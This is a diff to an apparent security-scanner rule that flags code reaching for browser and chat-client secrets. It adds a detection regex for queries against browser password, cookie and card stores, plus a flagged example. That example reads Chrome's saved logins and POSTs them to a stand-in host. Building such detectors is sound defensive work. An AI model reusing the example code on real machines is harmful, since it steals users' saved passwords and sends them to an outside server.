@@ -15,8 +15,9 @@ export default defineRule({
       profiles: 'Reaches for the profiles of {count} programs: {what}',
       many: 'Reaches for {count} places that hold other programs’ secrets: {what}',
       online: 'Reaches for {what}, in a file that talks to other machines',
+      asked: 'Asks the store of a browser for passwords, cookies or cards, in a file that talks to other machines',
     },
-    bits: { tokens: 14, profiles: 11, credentials: 2, browser: 5, wallet: 5, many: 9, online: 8 },
+    bits: { tokens: 14, profiles: 11, credentials: 2, browser: 5, wallet: 5, many: 9, online: 8, asked: 13.5 },
   },
   examples: {
     flags: [
@@ -27,6 +28,10 @@ export default defineRule({
       {
         title: 'browser profiles are listed',
         code: `const fs = require('fs');\nconst dirs = [process.env.LOCALAPPDATA + '/Google/Chrome/User Data/Default/Local Storage/leveldb', process.env.APPDATA + '/discord/Local Storage/leveldb'];\nfor (const dir of dirs) fs.readdirSync(dir);`,
+      },
+      {
+        title: 'a copy of the passwords of a browser is asked for all of them',
+        code: `const Database = require('better-sqlite3'), fs = require('fs'), os = require('os'), path = require('path');\nconst kept = path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), copy = path.join(os.tmpdir(), 'l.db');\nfs.copyFileSync(kept, copy);\nconst rows = new Database(copy).prepare('SELECT origin_url, username_value, password_value FROM logins').all();\nfetch('https://db.castle.invalid/l', { method: 'POST', body: JSON.stringify(rows) });`,
       },
       {
         title: 'tokens of a chat client are looked for',
@@ -112,7 +117,14 @@ export default defineRule({
       kind !== 'credentials' && !isBundle && context.calls('network').length > 0 && !isForBrowsers(context, kind);
     const all = [...places.keys()];
     context.report({
-      messageId: all.length >= 3 ? 'many' : online ? 'online' : kind,
+      messageId:
+        online && kind === 'browser' && ASKS_STORE.test(context.file.text)
+          ? 'asked'
+          : all.length >= 3
+            ? 'many'
+            : online
+              ? 'online'
+              : kind,
       data: { what: all.length >= 3 ? all.slice(0, 4).join(', ') : what, count: all.length },
       chain: [step('source', `reaches for ${what}`, context.file, node)],
     });
@@ -128,6 +140,10 @@ export default defineRule({
     }
   },
 });
+
+/** What is asked of the databases in which browsers keep what was typed, or who is logged in. */
+const ASKS_STORE =
+  /\bFROM\s{1,9}(?:logins|cookies|moz_cookies|moz_logins|credit_cards|autofill|stats)\b|\b(?:password_value|encrypted_value|card_number_encrypted)\b/i;
 
 /** What drives browsers says so, looks for their profiles, and talks to them. */
 function isForBrowsers(context: FileContext, kind: string): boolean {
